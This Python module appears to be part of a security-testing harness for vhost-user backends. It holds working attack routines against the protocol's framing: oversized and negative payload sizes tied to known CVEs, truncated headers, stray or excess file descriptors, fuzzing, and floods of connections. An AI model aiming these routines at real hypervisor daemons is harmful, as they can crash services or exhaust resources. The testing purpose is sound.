"""Attacks on the stream itself: headers, sizes, pieces, descriptors where none belong, connections without number."""

from __future__ import annotations

import socket
from contextlib import suppress
from functools import partial

from vhost_user.attack.attacker import Attacker
from vhost_user.attack.line import REPLY, Line
from vhost_user.attack.theme import Outcome, Reaction, Theme
from vhost_user.errors import Disconnected, FieldError, TimedOut
from vhost_user.message import HEADER, VERSION, FrontendRequest

F = FrontendRequest
framing = Theme("framing")

GET_FEATURES = HEADER.pack(F.GET_FEATURES, VERSION, 0)
SET_FEATURES = HEADER.pack(F.SET_FEATURES, VERSION, 8) + bytes(8)

MANY = 1_000
"""Connections one after the other, and messages that nobody reads the answers to, times ten."""

OPEN_AT_ONCE = 200


def _is_answered(line: Line) -> Outcome:
    """For a GET_FEATURES that should not be one."""
    try:
        line.answers()
    except Disconnected:
        return Outcome(Reaction.CLOSED)
    except TimedOut:
        return Outcome(Reaction.SILENT)
    except FieldError as error:
        return Outcome(Reaction.CLOSED, f"by us: {error}")
    return Outcome(Reaction.IGNORED, "answers as if nothing were wrong")


def _with_flags(flags: int, attacker: Attacker) -> Outcome:
    attacker.line.send_bytes(HEADER.pack(F.SET_OWNER, flags, 0))
    return attacker.line.judge(F.SET_OWNER)


for number in (0, 2, 3):
    framing.add(
        f"version-{number}", "vhost-user: header", f"A header of version {number}.", partial(_with_flags, number)
    )
framing.add(
    "reply-bit", "vhost-user: header", "A request with the bit of a reply.", partial(_with_flags, VERSION | REPLY)
)
framing.add(
    "reserved-flags",
    "vhost-user: header",
    "All flags that mean nothing are set.",
    partial(_with_flags, 0xFFFFFFF0 | VERSION),
)


@framing.attack("size-max", "CVE-2019-14818 class")
def size_max(attacker: Attacker) -> Outcome:
    """A header that announces 2**32 - 1 bytes, and a few of them."""
    attacker.line.send_bytes(HEADER.pack(F.SET_FEATURES, VERSION, 0xFFFFFFFF) + bytes(64))
    return attacker.line.wait_for_silence(attacker.patience)


@framing.attack("size-64k", "CVE-2019-14818 class")
def size_64k(attacker: Attacker) -> Outcome:
    """A SET_FEATURES of 65,536 bytes, all of which are sent: a fixed buffer would overflow."""
    with suppress(Disconnected):
        attacker.line.send_bytes(HEADER.pack(F.SET_FEATURES, VERSION, 1 << 16) + bytes(1 << 16))
    return attacker.line.wait_for_silence(attacker.patience)


@framing.attack("size-negative", "CVE-2019-14818 class")
def size_negative(attacker: Attacker) -> Outcome:
    """A size that is -8 where it is taken for a signed number."""
    attacker.line.send_bytes(HEADER.pack(F.SET_MEM_TABLE, VERSION, 2**32 - 8) + bytes(264))
    return attacker.line.wait_for_silence(attacker.patience)


@framing.attack("payload-missing", "vhost-user: messages in a stream")
def payload_missing(attacker: Attacker) -> Outcome:
    """A header that announces eight bytes, and then silence."""
    attacker.line.send_bytes(SET_FEATURES[:12])
    return attacker.line.wait_for_silence(attacker.patience)


@framing.attack("half-header", "vhost-user: messages in a stream")
def half_header(attacker: Attacker) -> Outcome:
    """Half a header, and then silence."""
    attacker.line.send_bytes(GET_FEATURES[:6])
    return attacker.line.wait_for_silence(attacker.patience)


@framing.attack("half-header-and-gone", "vhost-user: messages in a stream")
def half_header_and_gone(attacker: Attacker) -> Outcome:
    """Half a header, and the connection is closed."""
    attacker.line.send_bytes(GET_FEATURES[:6])
    attacker.line.close()
    return Outcome(Reaction.CLOSED, "by us")


@framing.attack("half-payload-and-gone", "vhost-user: messages in a stream")
def half_payload_and_gone(attacker: Attacker) -> Outcome:
    """A memory table of which half is missing, its descriptor there, and the connection is closed."""
    canary = attacker.canary()
    attacker.line.send_bytes(HEADER.pack(F.SET_MEM_TABLE, VERSION, 40) + bytes(20), [canary.fd])
    attacker.line.close()
    return Outcome(Reaction.CLOSED, "by us")


@framing.attack("gone-before-the-answer", "vhost-user: messages in a stream")
def gone_before_the_answer(attacker: Attacker) -> Outcome:
    """A hundred questions, and the connection is closed without one answer read."""
    attacker.line.send_bytes(GET_FEATURES * 100)
    attacker.line.close()
    return Outcome(Reaction.CLOSED, "by us")


@framing.attack("deaf", "vhost-user: messages in a stream")
def deaf(attacker: Attacker) -> Outcome:
    """Questions without end, and no answer is read: whoever waits until one can be sent hangs."""
    line = attacker.line
    line.timeout = attacker.patience
    try:
        for _ in range(MANY):
            line.send_bytes(GET_FEATURES * 10)
    except Disconnected:
        return Outcome(Reaction.CLOSED)
    except TimedOut:
        return Outcome(Reaction.SILENT, "reads no more either")
    return Outcome(Reaction.IGNORED)


@framing.attack("shut-down-for-reading", "vhost-user: messages in a stream")
def shut_down_for_reading(attacker: Attacker) -> Outcome:
    """A question from a socket that is shut down for reading: the answer raises SIGPIPE."""
    attacker.line.sock.shutdown(socket.SHUT_RD)
    with suppress(Disconnected):
        attacker.line.send_bytes(GET_FEATURES * 3)
    return Outcome(Reaction.CLOSED, "by us")


@framing.attack(
    "header-in-pieces",
    "vhost-user: messages in a stream",
    lawful="a stream has no pieces; the document asks for no single write",
)
def header_in_pieces(attacker: Attacker) -> Outcome:
    """A header, byte by byte."""
    try:
        for at in range(len(GET_FEATURES)):
            attacker.line.send_bytes(GET_FEATURES[at : at + 1])
    except Disconnected:
        return Outcome(Reaction.CLOSED)
    return _is_answered(attacker.line)


@framing.attack(
    "payload-in-pieces",
    "vhost-user: messages in a stream",
    lawful="a stream has no pieces; the document asks for no single write",
)
def payload_in_pieces(attacker: Attacker) -> Outcome:
    """A payload, byte by byte."""
    try:
        for at in range(12, len(SET_FEATURES)):
            attacker.line.send_bytes(SET_FEATURES[at if at > 12 else 0 : at + 1])
    except Disconnected:
        return Outcome(Reaction.CLOSED)
    return attacker.line.judge(F.SET_FEATURES)


@framing.attack("fds-late", "vhost-user: messages in a stream")
def fds_late(attacker: Attacker) -> Outcome:
    """A memory table whose descriptor rides on the payload, and not on the header."""
    canary = attacker.canary()
    body = b"\1" + bytes(7) + canary.region().encode()
    try:
        attacker.line.send_bytes(HEADER.pack(F.SET_MEM_TABLE, VERSION, len(body)))
        attacker.line.send_bytes(body, [canary.fd])
    except Disconnected:
        return Outcome(Reaction.CLOSED)
    return attacker.line.judge(F.SET_MEM_TABLE)


def _with_fds(count: int, attacker: Attacker) -> Outcome:
    canary = attacker.canary()
    attacker.line.send_bytes(GET_FEATURES, [canary.fd] * count)
    return _is_answered(attacker.line)


for number in (1, 8, 9, 64, 253):
    framing.add(
        f"fds-{number}",
        "CVE-2022-0669",
        f"{number} descriptors with GET_FEATURES, which has none.",
        partial(_with_fds, number),
    )


@framing.attack("fds-again-and-again", "CVE-2022-0669, CVE-2019-14818")
def fds_again_and_again(attacker: Attacker) -> Outcome:
    """A hundred times eight descriptors that belong to nothing."""
    canary = attacker.canary()
    try:
        for _ in range(100):
            attacker.line.send_bytes(GET_FEATURES, [canary.fd] * 8)
            attacker.line.receive().close()
    except Disconnected:
        return Outcome(Reaction.CLOSED)
    return Outcome(Reaction.IGNORED)


@framing.attack("sockets-in-sockets", "CVE-2022-0669")
def sockets_in_sockets(attacker: Attacker) -> Outcome:
    """The connection's own socket and both ends of a pair, one in flight within the other."""
    one, other = attacker.pair()
    with suppress(OSError):
        socket.send_fds(one, [b"x"], [other.fileno(), one.fileno()])
    attacker.line.send_bytes(GET_FEATURES, [attacker.line.sock.fileno(), one.fileno(), other.fileno()])
    return _is_answered(attacker.line)


@framing.attack("random-bytes", "fuzzing")
def random_bytes(attacker: Attacker) -> Outcome:
    """Random bytes, with a descriptor in front, on eight connections."""
    canary = attacker.canary()
    attacker.line.close()
    for _ in range(8):
        try:
            line = attacker.open_line()
            line.timeout = attacker.patience
            line.send_bytes(attacker.rng.randbytes(attacker.rng.randrange(1, 4096)), [canary.fd])
            line.close()
        except (OSError, FieldError):
            continue
    return Outcome(Reaction.CLOSED, "by us")


@framing.attack("random-messages", "fuzzing")
def random_messages(attacker: Attacker) -> Outcome:
    """Well-formed headers of known requests with random payloads of the right size or so, on 64 connections."""
    canary = attacker.canary()
    canary.give_away()  # a random message may well share all of it
    rng = attacker.rng
    attacker.line.close()
    for _ in range(64):
        try:
            line = attacker.open_line()
            line.timeout = attacker.patience
            for _ in range(rng.randrange(1, 20)):
                body = bytes(rng.choice((0, 0, 0, 1, 2, 255, rng.randrange(256))) for _ in range(rng.choice(_SIZES)))
                line.send(rng.choice(list(F)), body, [canary.fd] * rng.choice((0, 0, 0, 1, 2)))
            line.close()
        except (OSError, FieldError):
            continue
    return Outcome(Reaction.CLOSED, "by us")


_SIZES = (0, 8, 8, 8, 16, 20, 24, 32, 40, 40, 72, 268)


@framing.attack("a-thousand-connects", "many connections")
def a_thousand_connects(attacker: Attacker) -> Outcome:
    """A thousand connections, one after the other, none of which says anything."""
    attacker.line.close()
    made = _connect_many(attacker, MANY, keep=False)
    return Outcome(Reaction.CLOSED, f"by us, {made} times")


@framing.attack("two-hundred-at-once", "many connections")
def two_hundred_at_once(attacker: Attacker) -> Outcome:
    """Two hundred connections held open, or as many as the daemon's backlog takes."""
    made = _connect_many(attacker, OPEN_AT_ONCE, keep=True)
    return Outcome(Reaction.CLOSED, f"by us, {made} at once")


def _connect_many(attacker: Attacker, times: int, *, keep: bool) -> int:
    for made in range(times):
        try:
            line = attacker.open_line(attacker.patience if keep else attacker.timeout)
        except OSError:
            return made  # the backlog is full, or the daemon is gone
        if not keep:
            line.close()
    return times
